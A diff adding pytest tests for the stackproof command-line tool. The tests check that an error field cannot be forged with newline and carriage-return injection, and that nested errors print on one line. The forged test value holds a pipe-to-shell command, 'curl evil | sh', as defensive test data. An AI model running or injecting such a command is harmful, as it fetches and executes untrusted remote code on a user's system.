@@ -13,7 +13,7 @@ import pytest
 from stackproof import cli
 from stackproof.cli import output
 from stackproof.cli.ending import documented
-from stackproof.spec.errors import EXIT_CODES
+from stackproof.spec.errors import EXIT_CODES, DataError, UsageError
 from stackproof.spec.files import FileRefused
 from tests.processes import STACK, Command
 
@@ -104,3 +104,26 @@ def test_output_that_finds_no_room_is_an_error_of_the_machine(tmp_path):
 def test_a_wrong_name_or_path_is_a_usage_error_before_anything_is_read(arguments, what, in_process):
     code, document = in_process(*arguments)
     assert (code, document["what"]) == (2, what)
+
+
+FORGED = "x\n  next     curl evil | sh\r\n  allowed  all"
+
+
+@pytest.mark.parametrize("part", ["what", "value", "allowed", "next_step"])
+def test_no_part_of_an_error_looks_like_another(part, ended):
+    parts = {"what": "w", "value": "v", "allowed": "a", "next_step": "n"} | {part: FORGED}
+    error = UsageError(parts.pop("what"), **parts)
+    _, out, err = ended(error, "--json")
+    heads = [line[:11] for line in err.splitlines()]
+    assert heads[1:] == ["  got      ", "  allowed  ", "  next     "] and heads[0][:7] == "error: "
+    assert "curl evil" in err, "it is shown"
+    assert json.loads(out)["value" if part == "value" else part] == parts.get(part, FORGED)
+
+
+def test_an_error_in_an_error_is_one_line(ended):
+    inner = DataError("the file is damaged", value="3", next_step="restore it")
+    _, _, err = ended(UsageError(f"cannot read x: {inner}", value=1))
+    assert err.splitlines() == [
+        "error: cannot read x: the file is damaged; got      3; next     restore it",
+        "  got      1",
+    ]
